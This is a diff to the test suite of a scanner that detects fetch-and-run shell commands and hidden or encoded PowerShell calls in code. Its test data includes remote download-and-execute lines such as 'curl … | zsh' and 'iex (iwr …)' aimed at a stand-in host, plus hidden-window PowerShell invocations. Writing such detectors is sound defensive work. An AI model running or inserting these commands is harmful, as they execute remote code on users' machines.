@@ -28,6 +28,8 @@ EXEC = 'const cp = require("child_process");\n'
         ('cp.exec("bash <(curl -s https://acme.example/x)")', HIGH),
         ('terminal.sendText("curl https://acme.example | bash")', HIGH),
         ('cp.exec("powershell -c \\"irm https://acme.example/x | iex\\"")', HIGH),
+        ('cp.exec("nohup curl -s https://acme.example/x | zsh &")', HIGH),
+        ('cp.exec("wget -q https://acme.example/x.sh && sh ./x.sh")', HIGH),
     ],
 )
 def test_a_command_that_fetches_and_runs_is_found(code: str, severity: Severity) -> None:
@@ -43,6 +45,9 @@ def test_a_command_that_fetches_and_runs_is_found(code: str, severity: Severity)
         'cp.exec("curl -fsSL https://acme.example/x.json | jq .")',
         'cp.exec("curl https://acme.example/x.sh -o x.sh")',
         'cp.exec("git clone github:acme/tools")',
+        'cp.exec("wget -q https://acme.example/a.tgz -O a.tgz && sh ./build.sh")',
+        'cp.exec("curl -so /tmp/x https://acme.example && sh /tmp/xy")',
+        'cp.exec("nohup curl -so x.sh https://acme.example/x.sh &")',
     ],
 )
 def test_other_commands_are_none(code: str) -> None:
@@ -60,12 +65,22 @@ def test_a_shell_script_runs_its_lines_but_not_its_comments() -> None:
     assert found(f"# Setup\n\n{line}\n", "README.md") == {}
 
 
+def test_powershell_s_own_script_needs_no_powershell() -> None:
+    line = "iex (iwr 'https://acme.example/x.ps1' -UseBasicParsing)\r\n"
+    assert found(line, "setup.ps1") == {"runs-remote-code": HIGH}
+    assert found(f"# {line}", "setup.ps1") == {}
+    assert found("iex (Get-Content x.ps1)\r\niwr 'https://acme.example'", "setup.ps1") == {}
+
+
 @pytest.mark.parametrize(
     "command",
     [
         "powershell -WindowStyle Hidden -EncodedCommand $x",
         "powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File x.ps1",
         "powershell.exe -w hidden -enc $x",
+        "powershell -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=",
+        "powershell /EncodedCommand ZQBjAGgAbwAgAGgAZQBsAGwAbwA=",
+        'powershell", ["-NoP", "-Enc", "ZQBjAGgAbwAgAGgAZQBsAGwAbwA=',
         "powershell -nop -w 1 -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A",
         'powershell", ["-NoProfile", "-w", "hidden", "-c", "iex (iwr https://acme.example)',
         "pwsh -WindowStyle Hidden -c (New-Object Net.WebClient).DownloadFile(1)",
@@ -81,9 +96,19 @@ def test_a_hidden_powershell_is_found(command: str) -> None:
     [
         "powershell -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand",
         "powershell -NoProfile -Command Get-Process",
-        "powershell -WindowStyle Hidden -Command Get-Clipboard",
+        "powershell -Command Start-Process x.exe -WindowStyle Hidden",
+        "powershell -WindowStyle Normal -Command Get-Clipboard",
         "powershell.exe', ['-File', script], {windowsHide: true})('",
+        "powershell', ['-ExecutionPolicy', 'Bypass', '-File', f], {windowsHide: true})('",
+        "powershell -Command Get-Content a.txt -Encoding Unicodes",
+        "powershell -Command Get-Content a.txt -en ThisIsNoBase64",
     ],
 )
 def test_an_ordinary_powershell_is_not(command: str) -> None:
     assert found(f"{EXEC}cp.exec('{command}')") == {}
+
+
+@pytest.mark.parametrize("command", ["powershell -w hidden -c dir", "pwsh -Win Hidden -Command ls"])
+def test_a_command_without_a_window_is_less_bad(command: str) -> None:
+    assert found(f"{EXEC}cp.exec('{command}')") == {"hidden-powershell": HIGH}
+    assert found(f"show('{command}')") == {}
